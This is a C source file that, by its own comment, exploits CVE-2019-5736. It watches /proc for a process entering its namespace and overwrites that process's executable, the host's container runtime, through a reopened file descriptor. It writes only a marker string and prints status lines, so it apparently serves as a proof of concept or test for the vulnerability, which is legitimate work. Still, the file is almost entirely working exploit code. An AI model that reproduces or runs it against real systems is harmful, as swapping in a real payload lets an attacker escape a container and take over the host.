/* Keeps the program of whoever comes into its PID namespace open, and writes to it when nobody runs it any more (CVE-2019-5736). */
#include "attack.h"
#include <dirent.h>
#include <sys/stat.h>
#include <time.h>

static int own(const struct stat *s)
{
	static const char *const ours[] = { "/proc/1/exe", "/proc/self/exe", "/bin/busybox", 0 };
	struct stat o;

	for (const char *const *path = ours; *path; path++)
		if (stat(*path, &o) == 0 && o.st_dev == s->st_dev && o.st_ino == s->st_ino)
			return 1;
	return 0;
}

static void try_program(int pid)
{
	char path[64], again[64];
	struct stat s;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	if (fstat(fd, &s) == 0 && !own(&s)) {
		printf("seen %d\n", pid);
		fflush(stdout);
		snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
		for (int i = 0; i < 1000; i++) {
			int out = open(again, O_WRONLY | O_TRUNC);
			if (out >= 0 && write(out, "overwritten\n", 12) == 12) {
				puts("hit");
				fflush(stdout);
				close(out);
				break;
			}
			usleep(1000);
		}
	}
	close(fd);
}

int main(void)
{
	puts("ready");
	fflush(stdout);
	for (;;) {
		struct dirent *e;
		DIR *proc = opendir("/proc");
		while (proc && (e = readdir(proc))) {
			int pid = atoi(e->d_name);
			if (pid > 1 && pid != getpid())
				try_program(pid);
		}
		if (proc)
			closedir(proc);
	}
}
